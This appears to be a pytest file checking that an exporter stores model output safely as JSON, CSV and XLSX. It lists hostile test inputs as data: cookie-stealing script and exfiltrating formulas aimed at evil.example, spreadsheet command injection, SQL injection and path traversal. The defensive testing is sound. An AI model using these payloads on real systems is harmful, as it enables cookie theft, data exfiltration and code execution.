"""S15: whatever a model says is a value: exact in JSON, text in a cell, and never run by whoever opens the file."""

import csv
import json
from collections.abc import Iterator
from pathlib import Path
from zipfile import ZipFile

import pytest
from python_calamine import CalamineWorkbook

from services.exporter.export_file import write_export
from services.exporter.formulas import neutralised, runs_as_formula
from services.exporter.sheet_cells import MOST_CHARACTERS
from tests.unit.exporter.export_makers import completed, read_csv

VALUES = {
    "script": "<script>fetch('//evil.example/' + document.cookie)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "svg": '<svg onload="alert(1)">',
    "link": '<a href="javascript:alert(1)">total</a>',
    "markdown": "![](https://evil.example/?q=SECRET)",
    "template": "{{constructor.constructor('alert(1)')()}} ${7*7} <%= 7*7 %>",
    "sql": "'; DROP TABLE documents; --",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"total")',
    "command": "=cmd|' /C calc'!A0",
    "web service": '@WEBSERVICE("https://evil.example")',
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "plus": "+1+cmd|' /C calc'!A0",
    "xml": "]]></t></is></c><c><f>1+1</f></c>",
    "entity": "&lt;b&gt; &#61;1+1 &xxe;",
    "escape": "_x003D_1+1",
    "ansi": "\x1b[2J\x1b]0;owned\x07total",
    "direction": "\u202egnp.exe",
    "lines": 'a"\r\n"b",=1+1\r\n',
    "header": "a\r\nSet-Cookie: a=b",
    "path": "../../../etc/passwd",
    "json": '{"__proto__": {"admin": true}}',
    "huge": "=" + "x" * 10_000_000,
}


@pytest.fixture
def _large_fields() -> Iterator[None]:
    """The reader's own limit is for whoever fears memory."""
    before = csv.field_size_limit(20_000_000)
    yield
    csv.field_size_limit(before)


def exported(folder: Path, format_: str, value: str) -> Path:
    target = folder / f"out.{format_}"
    write_export(
        lambda: [completed({"seller": value, value[:80]: "as a name"})],
        format=format_,  # type: ignore[arg-type]  # one of three
        layout="normal",
        target=target,
    )
    return target


@pytest.mark.parametrize("name", VALUES)
def test_json_holds_the_value_exactly(tmp_path: Path, name: str):
    (entry,) = json.loads(exported(tmp_path, "json", VALUES[name]).read_bytes())

    assert entry["data"]["seller"] == VALUES[name]


@pytest.mark.usefixtures("_large_fields")
@pytest.mark.parametrize("name", VALUES)
def test_a_csv_cell_does_not_run_and_can_be_had_back(tmp_path: Path, name: str):
    value = VALUES[name]
    (row,) = read_csv(exported(tmp_path, "csv", value))

    assert row["seller"] == neutralised(value)
    assert row["seller"].removeprefix("'") == value.removeprefix("'")
    assert not any(header.startswith(("=", "@", "+", "-", "\t", "\r")) for header in row)
    assert runs_as_formula(value) == (row["seller"] != value)


@pytest.mark.parametrize("name", VALUES)
def test_a_sheet_holds_text_and_no_formula(tmp_path: Path, name: str):
    target = exported(tmp_path, "xlsx", VALUES[name])
    headers, row = CalamineWorkbook.from_path(str(target)).get_sheet_by_index(0).to_python()
    shown = dict(zip(headers, row, strict=True))["seller"]
    with ZipFile(target) as book:
        sheets = b"".join(book.read(part) for part in book.namelist() if part.startswith("xl/worksheets"))

    assert isinstance(shown, str)
    assert len(shown) <= MOST_CHARACTERS
    assert b"<f>" not in sheets
    assert b"<script" not in sheets
